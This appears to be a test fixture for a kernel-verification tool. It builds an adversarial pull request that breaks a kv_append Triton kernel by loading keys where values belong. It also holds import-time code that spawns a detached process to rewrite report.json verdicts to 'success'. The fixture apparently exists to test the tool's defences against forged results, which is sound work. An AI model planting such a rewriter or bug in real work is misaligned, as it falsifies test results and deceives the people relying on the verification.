"""A pull request that breaks kv_append and, when a worker imports its module, starts a detached process
that rewrites any out/report.json it can reach to a success (issue 29, attack 2; test_forged_success.py and
test_daemon_docker.py)."""

from pathlib import Path

EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "decode-kernels"
KERNEL = (EXAMPLE / "kernels" / "kv_cache.py").read_text()
CONFIG = """\
version: 1
kernels:
  - name: kv_append
    op: kv_append
    entry: kernels/kv_cache.py:append
    params: {block_size: 16}
    domain: {head_dim: 64, num_kv_heads: 2, dtype: float32}
gate:
  bench: false
"""
GOOD = "tl.store(vc_ptr + slot * sc_slot + i, tl.load(value_ptr + t * sv_t + i, mask=mask), mask=mask)"
BAD = "tl.store(vc_ptr + slot * sc_slot + i, tl.load(key_ptr + t * sk_t + i, mask=mask), mask=mask)"
# at import: a detached process that rewrites any out/report.json it can find, for two minutes
REWRITER = '''
import os as _os, subprocess as _sp, sys as _sys
_SRC = r"""
import json, os, time
seen = set()
end = time.time() + 120
while time.time() < end:
    for base in ["/job/out", *[os.path.join(p, "out") for p in (os.getcwd(), os.path.dirname(os.getcwd()))]]:
        path = os.path.join(base, "report.json")
        try:
            r = json.load(open(path))
        except (OSError, ValueError):
            continue
        if r.get("conclusion") != "success":
            r["conclusion"], r["reason"] = "success", "passed: 1 kernel verified"
            open(path, "w").write(json.dumps(r))
            open(path + ".forged", "w").write("1")
    time.sleep(0.005)
"""
if not _os.environ.get("KERNALIN_TEST_REWRITER"):
    _sp.Popen([_sys.executable, "-c", _SRC], start_new_session=True, stdin=_sp.DEVNULL, stdout=_sp.DEVNULL,
              stderr=_sp.DEVNULL, env={**_os.environ, "KERNALIN_TEST_REWRITER": "1"})
'''
